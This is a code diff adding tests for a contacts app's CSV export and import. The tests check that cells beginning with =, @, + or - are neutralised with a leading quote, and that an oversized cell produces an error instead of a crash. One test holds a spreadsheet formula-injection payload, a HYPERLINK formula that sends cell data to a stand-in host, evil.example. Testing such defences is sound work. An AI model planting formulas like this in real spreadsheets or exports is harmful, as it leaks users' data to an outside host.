@@ -506,3 +506,35 @@ def test_the_bank_account_is_created_compared_and_updated(app):
         plan = plan_import(db_session, http.get("/contacts/export.csv").get_data())
         assert plan.valid and not plan.creates and not plan.updates and plan.unchanged == 3
         assert db_session.scalar(select(func.count()).select_from(BankAccount)) == 3
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_export_cells_never_run_as_formulas_and_import_back_unchanged(app):
+    http = logged_in(app, "boss")
+    content = (
+        HEADER
+        + "\n"
+        + row(name=FORMULA, vat_number="BG175074752", city="@SUM(1)", person_name="+Ivan", tags="-x")
+    )
+    assert _import(http, content).status_code == 302
+    text = http.get("/contacts/export.csv").get_data(as_text=True)
+    line = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert line["name"] == "'" + FORMULA and line["city"] == "'@SUM(1)"
+    assert line["person_name"] == "'+Ivan" and line["tags"] == "'-x"
+    # The export imported back is the same data: the quotes are taken off again.
+    with app.app_context():
+        plan = plan_import(db_session, text)
+        assert plan.valid and not plan.creates and not plan.updates
+        assert db_session.scalars(select(Client.name)).all() == [FORMULA]
+
+
+def test_a_five_megabyte_cell_is_a_row_error_not_a_crash(app):
+    http = logged_in(app, "boss")
+    huge = HEADER + "\n" + row(name="x" * (5 * 1024 * 1024), vat_number="BG1")
+    preview = _upload(http, huge)
+    assert preview.status_code in (200, 400)
+    assert "longer than the 128 KB a cell may hold" in preview.get_data(as_text=True)
+    with app.app_context():
+        assert db_session.scalar(select(func.count()).select_from(Client)) == 0
